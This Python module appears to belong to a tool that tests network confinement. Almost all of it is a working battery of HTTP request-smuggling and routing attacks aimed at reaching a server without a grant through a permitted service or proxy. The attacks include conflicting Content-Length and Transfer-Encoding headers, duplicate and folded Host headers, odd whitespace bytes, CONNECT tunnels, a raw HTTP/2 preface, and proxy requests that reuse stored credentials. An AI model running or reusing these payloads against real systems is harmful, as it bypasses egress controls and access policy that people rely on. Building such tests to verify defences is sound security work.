"""Attacks by requests that two readers understand differently: to reach a server by way of another.

Each names, in a place that only some readers examine, a server without a grant. A proxy that passes it on names it too.
"""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable, Iterator, Mapping
from functools import partial

from .talk import SECONDS, Place, asked, connect, connect_to_proxy, must_reach, proxy_credentials, tunnel
from .way import RefusedActError, Way

# Python's own server, among others, accepts these as spaces between the words of a request.
_ODD_SPACES = (b"\x0b", b"\x0c", b"\x1c", b"\x1f", b"\x85", b"\xa0")

_TIDE = 0.1  # seconds for an answer that does not come
_CHUNK = 1 << 16
_AT_A_TIME = 8


def smuggle_requests(granted: Place, stranger: str) -> Iterator[Way]:
    """Ask the granted service for a page of `stranger`, which is another server's."""
    host, port = granted
    must_reach(host, port)
    own = f"{host}:{port}".encode()
    good = b"GET / HTTP/1.1\r\nHost: " + own + b"\r\n\r\n"
    acts: dict[str, Callable[[], str]] = {}
    for name, words in _requests(own, stranger.encode()).items():
        acts[f"{name}, straight"] = partial(_passed_on, partial(connect, host, port), words)
        acts[f"{name}, by a tunnel"] = partial(_passed_on, partial(tunnel, host, port), words)
        if name in _AFTER_ANOTHER:
            acts[f"{name}, after another"] = partial(_passed_on, partial(connect, host, port), words, good)
    for name, words in _pages(own, stranger.encode()).items():
        acts[f"{name}, as a page"] = partial(_passed_on, connect_to_proxy, words)
    yield from _together(acts)


def smuggle_requests_in_odd_spaces(granted: Place, stranger: str) -> Iterator[Way]:
    """Ask for a page of `stranger` in requests with characters that only some readers take for spaces."""
    host, port = granted
    must_reach(host, port)
    rest = b"Host: " + stranger.encode() + b"\r\n\r\n"
    acts: dict[str, Callable[[], str]] = {}
    for space in _ODD_SPACES:
        for name, line in (("before", b"%bGET / HTTP/1.1\r\n"), ("within", b"GET%b/ HTTP/1.1\r\n")):
            words = line % space + rest
            acts[f"{space!r} {name}, straight"] = partial(_passed_on, partial(connect, host, port), words)
            acts[f"{space!r} {name}, by a tunnel"] = partial(_passed_on, partial(tunnel, host, port), words)
    yield from _together(acts)


def _together(acts: Mapping[str, Callable[[], str]]) -> Iterator[Way]:
    """Run all of it, several at a time: most of it is waiting."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(_AT_A_TIME) as pool:
        for name, done in [(name, pool.submit(act)) for name, act in acts.items()]:
            yield name, done.result


_AFTER_ANOTHER = ("another host", "an address in full", "a tunnel in it", "two hosts")


def _requests(own: bytes, stranger: bytes) -> Mapping[str, bytes]:
    """Return the data to send on a connection to the granted service."""
    host, other = b"Host: " + own + b"\r\n", b"Host: " + stranger + b"\r\n"
    get, post, end = b"GET / HTTP/1.1\r\n", b"POST / HTTP/1.1\r\n", b"\r\n"
    second = get + other + end
    chunked = b"Transfer-Encoding: chunked\r\n"
    length = b"Content-Length: %d\r\n" % len(b"0\r\n\r\n" + second)
    both = b"0\r\n\r\n" + second
    return {
        "another host": second,
        "another port": get + b"Host: " + own.partition(b":")[0] + b":1\r\nX: " + stranger + end + end,
        "two at once": get + host + end + second,
        "two hosts": get + host + other + end,
        "two hosts, the other first": get + other + host + end,
        "an address in full": b"GET http://" + stranger + b"/ HTTP/1.1\r\n" + host + end,
        "an address in full, encrypted": b"GET https://" + stranger + b"/ HTTP/1.1\r\n" + host + end,
        "a tunnel in it": b"CONNECT " + stranger + b":80 HTTP/1.1\r\n" + host + end,
        "a length and chunks": post + host + length + chunked + end + both,
        "chunks and a length": post + host + chunked + length + end + both,
        "chunks that are none": post + host + length + b"Transfer-Encoding: xchunked\r\n" + end + both,
        "chunks twice": post + host + chunked + b"Transfer-Encoding: identity\r\n" + end + both,
        "chunks with a space": post + host + length + b"Transfer-Encoding : chunked\r\n" + end + both,
        "chunks with a tab": post + host + length + b"Transfer-Encoding:\tchunked\r\n" + end + both,
        "two lengths": post + host + b"Content-Length: 0\r\n" + length + end + both,
        "two lengths in one": post + host + b"Content-Length: 0, %d\r\n" % len(both) + end + both,
        "a signed length": post + host + b"Content-Length: +%d\r\n" % len(both) + end + both,
        "a chunk that ends early": post + host + chunked + end + b"0_0\r\n\r\n" + second,
        "a chunk with a bare line end": post + host + chunked + end + b"1;x\ny\r\nz\r\n0\r\n\r\n" + second,
        "bare line ends": b"GET / HTTP/1.1\n" + other.replace(b"\r", b"") + b"\n",
        "a bare line end in a header": get + b"X: a\n" + other + host + end,
        "a bare return in a header": get + b"X: a\r" + other + host + end,
        "a folded header": get + b"X: a\r\n " + other + host + end,
        "a host with a space": get + host + b"Host : " + stranger + end + end,
        "a host that is folded": get + b"Host:\r\n " + stranger + end + end,
        "a nul in a header": get + b"X: a\0" + other + host + end,
        "an empty line before": b"\r\n\r\n" + second,
        "a space before": b" " + second,
        "no version": b"GET http://" + stranger + b"/\r\n",
        "an old version": b"GET / HTTP/1.0\r\n" + other + end,
        "a later version": b"GET / HTTP/1.9\r\n" + other + end,
        "a version in small letters": b"GET / http/1.1\r\n" + other + end,
        "a method of its own": b"FETCH / HTTP/1.1\r\n" + other + end,
        "HTTP/2 at once": _second_edition(stranger),
        "HTTP/2 by asking": get + b"Host: " + own + b"\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n" + second,
    }


def _pages(own: bytes, stranger: bytes) -> Mapping[str, bytes]:
    """Return the data to send to a proxy."""
    known = proxy_credentials()
    get, end = b"GET http://" + own + b"/ HTTP/1.1\r\n" + known, b"\r\n"
    host, other = b"Host: " + own + b"\r\n", b"Host: " + stranger + b"\r\n"
    return {
        "another host": get + other + end,
        "two hosts": get + host + other + end,
        "another host after it": get + host + end + b"GET http://" + stranger + b"/ HTTP/1.1\r\n" + known + other + end,
        "a path after it": get + host + end + b"GET / HTTP/1.1\r\n" + known + other + end,
        "a bare line end in the target": b"GET http://" + own + b"/\n" + other + host + known + end,
        "a tunnel after it": get + host + end + b"CONNECT " + stranger + b":80 HTTP/1.1\r\n" + known + end,
    }


def _second_edition(stranger: bytes) -> bytes:
    """Return the first bytes of a client that knows its server speaks HTTP/2: preface, settings, and one request."""
    # Method and scheme by their numbers, the authority and path as text.
    fields = b"\x82\x86\x84\x41" + bytes([len(stranger)]) + stranger
    settings = struct.pack(">IBI", 4, 0, 0)[1:]
    request = struct.pack(">I", len(fields))[1:] + b"\x01\x05\0\0\0\x01" + fields
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + b"\0" + request


def _passed_on(line_of: Callable[[], socket.socket], words: bytes, before: bytes = b"") -> str:
    """Send data on a connection, and return its effect, as far as it can be observed here."""
    with line_of() as line:
        if before:
            asked(line, before)
        line.settimeout(SECONDS)
        line.sendall(words)
        line.settimeout(_TIDE)
        answer = b""
        while True:
            try:
                received = line.recv(_CHUNK)
            except TimeoutError:
                return f"it was taken: {answer[:40]!r}"
            if not received:
                break
            answer += received
    raise RefusedActError("ECONNRESET", f"the connection was closed for it: {answer[:40]!r}")
